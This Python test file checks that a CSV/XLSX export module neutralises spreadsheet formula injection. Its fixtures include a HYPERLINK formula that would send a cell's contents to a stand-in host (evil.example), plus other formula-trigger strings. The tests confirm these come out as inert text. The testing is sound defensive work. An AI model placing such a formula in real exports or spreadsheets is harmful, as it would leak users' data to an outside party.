"""core.exports: one CSV dialect, typed XLSX, and no live formulas from user text."""

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from core.exports import Table, neutralise, table_csv, table_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _table():
    return Table(
        columns=["name", "amount", "day", "count"],
        headers=["Naam", "Bedrag", "Dag", "Aantal"],
        rows=[
            [EVIL, Decimal("50.00"), dt.date(2025, 3, 1), 1],
            ["+31 6 1234", Decimal("-12.50"), dt.date(2025, 3, 2), 2],
            ["@SUM(A1)", Decimal("0.10"), None, 3],
            ["\tTab", Decimal("1"), None, 4],
            ["-2+3", Decimal("2"), None, 5],
            ["Plain", Decimal("3"), None, 6],
        ],
        footer=["Total", Decimal("43.60"), None, None],
    )


def test_csv_dialect_and_neutralised_text():
    body = table_csv(_table())
    assert body.startswith(b"\xef\xbb\xbf") and b"\r\n" in body
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["name", "amount", "day", "count"]
    assert len(rows) == 7  # no totals row
    assert rows[1] == ["'" + EVIL, "50.00", "2025-03-01", "1"]
    assert rows[2][:2] == ["'+31 6 1234", "-12.50"]  # a negative number stays a number
    assert [r[0][0] for r in rows[3:6]] == ["'", "'", "'"]
    assert rows[6][0] == "Plain"


def test_xlsx_types_header_footer_and_no_formula():
    sheet = load_workbook(io.BytesIO(table_xlsx(_table()))).active
    assert [c.value for c in sheet[1]] == ["Naam", "Bedrag", "Dag", "Aantal"]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > 8
    evil = sheet["A2"]
    assert evil.data_type == "s" and evil.value == EVIL  # text, never a live formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert isinstance(sheet["B2"].value, int | float) and sheet["B3"].value == -12.5
    assert isinstance(sheet["C2"].value, dt.datetime)
    footer = [c.value for c in sheet[sheet.max_row]]
    assert footer[:2] == ["Total", 43.6]


def test_neutralise_leaves_plain_text():
    assert neutralise("Ana") == "Ana" and neutralise("") == ""
    assert neutralise("=1+1") == "'=1+1"
